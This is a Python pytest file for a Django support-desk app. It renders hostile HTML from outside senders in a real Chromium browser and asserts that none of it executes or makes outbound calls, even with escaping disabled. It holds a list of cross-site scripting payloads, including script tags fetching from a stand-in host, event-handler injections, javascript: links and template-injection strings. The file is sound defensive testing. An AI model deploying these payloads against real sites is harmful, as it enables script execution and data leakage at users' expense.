"""Strangers' HTML in every field that they control, shown in a real Chromium: nothing of it runs or calls."""

import os
import subprocess
import sys
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from django.conf import settings
from django.core.management import call_command
from django.db import connection, transaction

from inbox.enums import Visibility
from inbox.incoming import Author, Incoming, IncomingFile, ReplyTerms
from inbox.models import Conversation, Message
from inbox.services.ingest import store_page
from staff.models import Role
from tests.browser.conftest import find_chromium, free_port, make_session, wait_until_quiet, wait_until_up
from tests.factories import make_account, make_member
from tests.hostile.strings import read_attacks
from tests.hostile.watching import SILENT, Seen, Watch, watch
from tests.inbox.pages import THEN
from tests.sandbox_process import sandbox, sandbox_process

__all__ = ["sandbox", "sandbox_process"]
pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(find_chromium() is None, reason="No Chromium was found (set DESK_CHROMIUM)"),
]
OUT = "http://ran.example"
OURS = [
    f'<script>fetch("{OUT}/");document.title="taken"</script>',
    f'"><script src={OUT}/x.js></script>',
    "</title></textarea></style></noscript><svg onload=alert(1)>",
    f"<img src={OUT}/i.gif srcset='{OUT}/j.gif 2x' onerror=alert(1)>",
    f'<meta http-equiv="refresh" content="0;url={OUT}/">',
    f"<link rel=stylesheet href={OUT}/a.css><link rel=icon href={OUT}/a.ico><link rel=prefetch href={OUT}/p>",
    f'<style>@import "{OUT}/a.css"; * {{ background: url({OUT}/b.gif) }}</style>',
    f"<iframe src={OUT}/ onload=alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    f"<object data={OUT}/o></object><embed src={OUT}/e><video autoplay src={OUT}/v poster={OUT}/w></video>",
    f"<base href={OUT}/><img src=relative.gif><a href=//ran.example autofocus onfocus=alert(1)>x</a>",
    f"<form action={OUT}/><input autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>",
    "<a href=javascript:alert(1) id=q tabindex=0 autofocus onfocus=alert(1)>x</a>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    f"<div hx-get={OUT}/h hx-trigger=load hx-on:load=alert(1) data-hx-on-load=alert(1)>x</div>",
    "'-alert(1)-'\\x3cscript>alert(1)\\x3c/script>{{constructor.constructor('alert(1)')()}}",
]


@contextmanager
def serve(app: str, folder: Path) -> Iterator[str]:
    """Run the desk's pages over the tests' database; yields their address."""
    call_command("collectstatic", "--no-input", "--verbosity", "0")
    port, database = free_port(), connection.settings_dict
    place = f"postgresql://{database['USER']}@/{database['NAME']}?host={database['HOST']}"
    url = f"http://127.0.0.1:{port}"
    environment = {**os.environ, "DATABASE_URL": place, "PUBLIC_URL": url, "LOG_LEVEL": "WARNING"}
    command = [sys.executable, "-m", "uvicorn", app, "--port", str(port), "--log-level", "warning"]
    log = folder / "web.log"
    with log.open("wb") as out:
        process = subprocess.Popen(command, env=environment, stdout=out, stderr=out, cwd=settings.BASE_DIR)
        try:
            wait_until_up(url, process, log)
            yield url
        finally:
            process.terminate()
            process.wait(20)


def write_attack(number: int, attack: str, thread: str) -> Incoming:
    """Return a message that carries the attack in everything that its writer controls."""
    picture = b"\x89PNG\r\n\x1a\n" + b"\x00" * 20
    return Incoming(
        remote_id=f"{thread}{number}",
        thread_key=thread or f"thread{number}",
        author=Author(key=f"key{number}", name=attack, address=attack),
        text=f"northshire {attack}",
        quoted=attack,
        subject=attack,
        html=f"<p>northshire</p>{attack}",
        url=f"https://x.example/{attack}" if number % 2 else "javascript:alert(1)",
        remarks=(attack,),
        files=(
            IncomingFile(attack, "application/pdf", b"%PDF", alternative=attack),
            IncomingFile(attack, "image/png", picture, alternative=attack),
        ),
        written_at=THEN,
        raw=b"{}",
        visibility=Visibility.PUBLIC,
        terms=ReplyTerms(public_target="t", private_target="t"),
    )


@pytest.fixture
def stored(transactional_db: None) -> Callable[[int], list[str]]:
    """Store every attack in a conversation of its own; the last ones once more together in one."""

    def store(count: int) -> list[str]:
        attacks = [*OURS, *read_attacks()][:count]
        account = make_account()
        with transaction.atomic():
            store_page(account.pk, [write_attack(n, one, "") for n, one in enumerate(attacks)])
        for start in range(0, len(attacks), 90):
            items = [write_attack(n, one, f"t{start}") for n, one in enumerate(attacks[start : start + 90])]
            with transaction.atomic():
                store_page(account.pk, items)
        return attacks

    return store


def look_everywhere(window: Watch, pages: list[str], letters: list[str]) -> int:
    """Open every page, and every letter in a frame that gives it no sandbox."""
    for path in pages:
        window.show(path)
    window.show("/health/live")
    for start in range(0, len(letters), 40):
        window.show_frames(letters[start : start + 40])
    return len(pages) + len(letters)


def list_places() -> tuple[list[str], list[str]]:
    """Return the pages on which strangers' words stand, and the letters as they were laid out."""
    threads = Conversation.objects.filter(messages__remote_id__startswith="t").distinct()
    pages = [f"/c/{one.pk}/" for one in threads]
    pages += ["/?tab=all", "/search/?q=northshire", "/shift/", "/trail/"]
    return pages, [
        f"/messages/{pk}/html/"
        for pk in Message.objects.exclude(html="")
        .filter(remote_id__regex=r"^\d")
        .values_list("pk", flat=True)
    ]


def show(app: str, folder: Path, look: Callable[[Watch], int]) -> Seen:
    """Show the desk to a supervisor."""
    member = make_member("Sue", Role.SUPERVISOR)
    with serve(app, folder) as url:
        seen, count = watch(url, (settings.SESSION_COOKIE_NAME, make_session(member)), look)
        wait_until_quiet()
    assert count
    return seen


def test_no_attack_runs_calls_or_even_tries_to_on_any_page(stored, tmp_path):
    attacks = stored(1_000)
    pages, letters = list_places()
    assert len(letters) == len(attacks) > 200
    seen = show("desk.asgi:demo", tmp_path, lambda window: look_everywhere(window, pages, letters))
    assert seen == Seen()


def test_with_the_cleaning_and_the_escaping_off_policy_and_sandbox_hold_by_themselves(stored, tmp_path):
    attacks = stored(1_000)
    _, letters = list_places()
    # No policy holds a refresh on a page that is not in a sandbox: there the escaping stands alone.
    alone = [n for n, one in enumerate(attacks) if "http-equiv" not in one.lower()]
    some = [alone[n] for n in range(len(alone)) if n < len(OURS) or n % 6 == 0]
    first = Message.objects.filter(remote_id__in=[str(n) for n in some]).values_list(
        "conversation_id", flat=True
    )
    pages = [f"/c/{pk}/" for pk in first]

    def look(window: Watch) -> int:
        count = look_everywhere(window, [], letters)
        window.page.set_extra_http_headers({"HX-Request": "true"})
        for path in pages:
            window.show(path)
        return count + len(pages)

    seen = show("tests.hostile.unguarded:demo", tmp_path, look)
    assert (seen.ran, [call for call in seen.called if call != SILENT]) == ([], [])
    assert len(seen.refused) > 200


def test_no_attack_runs_calls_or_even_tries_to_in_the_town(sandbox):
    attacks = [*OURS, *read_attacks()]

    def look(window: Watch) -> int:
        for start in range(0, len(attacks), 30):
            sandbox.reset()
            said = [
                {"author": f"{one[:60]} {n}", "text": one}
                for n, one in enumerate(attacks[start : start + 30])
            ]
            sandbox.call("POST", "/town/x/posts", json=said)
            sandbox.call("POST", "/town/facebook/comments", json=said)
            letters = [{**one, "subject": one["text"], "author": "Jo <jo@far.example>"} for one in said]
            sandbox.call("POST", "/town/mail", json=letters)
            window.show("/town")
        return window.page.locator(".bubble").count()

    seen, bubbles = watch(sandbox.url, None, look)
    assert seen == Seen()
    assert bubbles > 20
